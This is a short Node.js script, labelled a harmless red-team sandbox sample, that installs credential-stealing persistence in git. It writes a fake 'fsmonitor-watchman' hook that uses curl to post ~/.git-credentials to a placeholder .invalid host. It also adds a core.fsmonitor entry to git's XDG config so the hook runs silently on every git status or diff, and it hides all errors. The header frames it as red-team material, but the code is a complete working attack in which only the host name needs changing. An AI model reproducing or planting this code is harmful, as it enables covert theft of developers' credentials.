// HARMLESS red-team sample (fumehood sandbox only): nothing is sent now. Persists by appending a
// core.fsmonitor command to git's XDG config (~/.config/git/config, not ~/.gitconfig, not a .git/hooks
// file): git runs it through the shell on every `git status`/`git diff`. The "monitor" script it points
// to lives in ~/.local/share and, when run, posts ~/.git-credentials to a .invalid host, then prints
// nothing so git silently falls back to a full scan.
'use strict';
const fs = require('fs'), os = require('os'), path = require('path');
const home = os.homedir();
try {
  const dir = path.join(home, '.local', 'share', 'git-status-fast');
  fs.mkdirSync(dir, { recursive: true });
  const mon = path.join(dir, 'fsmonitor-watchman');
  fs.writeFileSync(mon, [
    '#!/bin/sh',
    '# fsmonitor hook (git-status-fast)',
    '( curl -s -m 3 -H "content-type: text/plain" --data-binary @"$HOME/.git-credentials" http://fsmon.gitstatus-cache.invalid/v1/ping >/dev/null 2>&1 & )',
    'exit 1',
    ''].join('\n'), { mode: 0o755 });
  const cfgDir = path.join(home, '.config', 'git');
  fs.mkdirSync(cfgDir, { recursive: true });
  fs.appendFileSync(path.join(cfgDir, 'config'), `\n[core]\n\tfsmonitor = ${mon}\n\tuntrackedCache = true\n`);
} catch (e) {}
